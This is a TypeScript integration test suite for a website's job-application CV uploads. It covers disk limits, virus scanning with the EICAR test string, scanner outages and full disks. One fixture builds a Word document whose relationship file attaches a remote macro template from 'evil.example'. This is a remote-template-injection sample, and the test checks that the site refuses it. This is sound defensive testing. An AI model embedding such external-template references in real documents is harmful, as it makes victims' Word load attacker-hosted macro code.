import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { readdir, stat } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type HostedSite, startHostedSite } from "../../test-support/hosted-site.ts";
import { type MailServer, startMailServer } from "../../test-support/mail-server.ts";
import { metric } from "../../test-support/metrics.ts";
import { newVisitor, openPublicForms, type PublicForms } from "../../test-support/public-forms.ts";
import { aPdf, aZip, EICAR, multipart } from "../../test-support/sent-files.ts";
import { type HttpResponse, sampleOnPostgresql, sendRequest } from "../../test-support/site-process.ts";
import { mountSmallDisk } from "../../test-support/small-disk.ts";
import { startVirusScanner, type VirusScanner } from "../../test-support/virus-scanner.ts";

/* Files that visitors send to a running site: limits, and files that are always refused. */

const SLOW_MS = 180_000;
const JOBS = "/nl/vacatures/";
const APPLICANT = {
  form: "job-contact",
  title: "ms",
  firstName: "Renée",
  lastName: "Peeters",
  email: "renee@bezoeker.example",
  phone: "0470123456",
};

let mails: MailServer;
let site: HostedSite;
let forms: PublicForms;
beforeAll(async () => {
  mails = await startMailServer();
  site = await startHostedSite({ SMTP_URL: mails.url, TRUSTED_PROXIES: "loopback" });
  forms = await openPublicForms(site.port, 4);
}, SLOW_MS);
afterAll(async () => {
  await site.end();
  await mails.close();
});

/** Sends the application form from a network, with a CV. */
function apply(
  fields: Record<string, string>,
  cv: Uint8Array,
  from = newVisitor(),
  { port }: Pick<HostedSite, "port"> = site,
): Promise<HttpResponse> {
  const { headers, body } = multipart(fields, { field: "cv", name: "cv.pdf", bytes: cv });
  return sendRequest(port, JOBS, {
    method: "POST",
    headers: { ...headers, "sec-fetch-site": "same-origin", ...from },
    body,
  });
}

/** A CV of this size with unique content. */
function largeCv(bytes: number): Buffer {
  // Hexadecimal text has two characters per byte.
  return aPdf(randomBytes(bytes / 2).toString("hex"));
}

async function bytesBelow(...folder: string[]): Promise<number> {
  const path = join(...folder);
  const entries = existsSync(path) ? await readdir(path, { recursive: true, withFileTypes: true }) : [];
  const files = entries.filter((entry) => entry.isFile());
  const sizes = await Promise.all(
    files.map(async ({ parentPath, name }) => (await stat(join(parentPath, name))).size),
  );
  return sizes.reduce((sum, size) => sum + size, 0);
}

const referenceIn = ({ text }: HttpResponse) => /GB-[A-Z0-9]{5}/.exec(text)?.[0];
const tokenIn = ({ text }: HttpResponse) => /name="fileToken"[^>]*value="([^"]+)"/.exec(text)?.[1] ?? "";

test(
  "unfinished uploads of others do not block an applicant, and use limited disk space",
  async () => {
    const earlyForm = await apply({ ...APPLICANT, email: "renee@" }, aPdf("early"));
    expect(earlyForm.status).toBe(422);

    // A network has room for 28 MB, which is four files of nearly the maximum size. app/forms/uploads/uploaded-files.test.ts
    // tests the limit of all networks.
    const network = newVisitor();
    for (let number = 0; number < 5; number += 1)
      await apply({ form: "job-contact" }, largeCv(6_800_000), network);
    expect(await bytesBelow(site.dataFolder, "uploads")).toBeLessThan(28 * 1_048_576);

    const complete = await apply(forms.withCaptcha(APPLICANT), aPdf("complete"));
    expect(referenceIn(complete)).toBeDefined();
    const lateForm = await apply({ ...APPLICANT, email: "renee@" }, aPdf("late"));
    for (const toCorrect of [earlyForm, lateForm]) {
      const fileToken = tokenIn(toCorrect);
      expect(fileToken).not.toBe("");
      const corrected = await forms.post(JOBS, forms.withCaptcha({ ...APPLICANT, fileToken }));
      expect(referenceIn(corrected)).toBeDefined();
    }
  },
  SLOW_MS,
);

test("a document with external references is refused with advice", async () => {
  const relationship =
    '<Relationships><Relationship Type="a/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>';
  const cv = aZip([
    { name: "[Content_Types].xml", text: "<Types/>" },
    { name: "word/document.xml", text: "<w:document/>" },
    { name: "word/_rels/settings.xml.rels", text: relationship },
  ]);
  const refused = await apply(forms.withCaptcha(APPLICANT), cv);
  expect(refused.status).toBe(422);
  expect(refused.text.includes("Sla het document opnieuw op als pdf")).toBe(true);
  expect(tokenIn(refused)).toBe("");
});

describe("with a virus scanner, and a small disk where one may be mounted", { timeout: SLOW_MS }, () => {
  let scanner: VirusScanner;
  let siteWithScanner: HostedSite;
  let formsWithScanner: PublicForms;
  let uploads: string;
  let isDiskSmall: boolean;
  beforeAll(async () => {
    scanner = await startVirusScanner();
    const variables = await sampleOnPostgresql();
    uploads = join(variables.GABLE_DATA, "uploads");
    isDiskSmall = await mountSmallDisk(uploads, 3);
    siteWithScanner = await startHostedSite({
      ...variables,
      CLAMD_URL: `tcp://127.0.0.1:${scanner.port}`,
      TRUSTED_PROXIES: "loopback",
    });
    formsWithScanner = await openPublicForms(siteWithScanner.port, 7);
  }, SLOW_MS);
  afterAll(async () => {
    await siteWithScanner.end();
    await scanner.close();
  });

  test("an infected file is refused and not stored, a clean one is accepted", async () => {
    const refused = await apply(
      formsWithScanner.withCaptcha(APPLICANT),
      aPdf(EICAR),
      newVisitor(),
      siteWithScanner,
    );
    expect(refused.status).toBe(422);
    expect(refused.text.includes("Onze virusscanner heeft iets gevonden")).toBe(true);
    expect(tokenIn(refused)).toBe("");
    expect(await bytesBelow(siteWithScanner.dataFolder, "uploads")).toBe(0);
    expect(await metric(siteWithScanner.port, 'gable_security_events{event="upload-refused"}')).toBe(1);
    const accepted = await apply(
      formsWithScanner.withCaptcha(APPLICANT),
      aPdf("clean"),
      newVisitor(),
      siteWithScanner,
    );
    expect(referenceIn(accepted)).toBeDefined();
  });

  test("an earlier upload is scanned too before the form is accepted", async () => {
    const toCorrect = await apply(
      { ...APPLICANT, email: "renee@" },
      aPdf(EICAR),
      newVisitor(),
      siteWithScanner,
    );
    const fileToken = tokenIn(toCorrect);
    expect(fileToken).not.toBe("");
    const corrected = await formsWithScanner.post(
      JOBS,
      formsWithScanner.withCaptcha({ ...APPLICANT, fileToken }),
    );
    expect(corrected.status).toBe(422);
    expect(corrected.text.includes("Onze virusscanner heeft iets gevonden")).toBe(true);
  });

  test("while the scanner is unavailable nothing is accepted, and the visitor need not choose the file again", async () => {
    const { port } = scanner;
    await scanner.close();
    const cv = aPdf("sent while the scanner is unavailable");
    const refused = await apply(formsWithScanner.withCaptcha(APPLICANT), cv, newVisitor(), siteWithScanner);
    expect(refused.status).toBe(422);
    expect(refused.text.includes("op dit moment niet op virussen controleren")).toBe(true);
    scanner = await startVirusScanner({ port });
    const fileToken = tokenIn(refused);
    const accepted = await formsWithScanner.post(
      JOBS,
      formsWithScanner.withCaptcha({ ...APPLICANT, fileToken }),
    );
    expect(referenceIn(accepted)).toBeDefined();
    expect(scanner.scanned).toEqual([cv.length]);
  });

  test("on a disk that is nearly full a CV is refused with an explanation, and pages are served", async ({
    skip,
  }) => {
    if (!isDiskSmall) return skip("no disk may be mounted here");
    const filesNow = async () => {
      const entries = await readdir(uploads, { recursive: true, withFileTypes: true });
      return entries.filter((entry) => entry.isFile()).map(({ name }) => name);
    };
    const before = await filesNow();
    const accepted = await apply(
      formsWithScanner.withCaptcha(APPLICANT),
      largeCv(2_000_000),
      newVisitor(),
      siteWithScanner,
    );
    expect(referenceIn(accepted)).toBeDefined();
    const refused = await apply(
      formsWithScanner.withCaptcha(APPLICANT),
      largeCv(2_000_000),
      newVisitor(),
      siteWithScanner,
    );
    expect(refused.status).toBe(503);
    expect(refused.text.includes(`value="${APPLICANT.email}"`)).toBe(true);
    expect(refused.text.includes("niet verzonden")).toBe(true);
    expect((await sendRequest(siteWithScanner.port, "/nl/kopen/")).status).toBe(200);
    const added = (await filesNow()).filter((name) => !before.includes(name));
    expect(added).toEqual([expect.stringMatching(/\.pdf$/)]);
  });
});
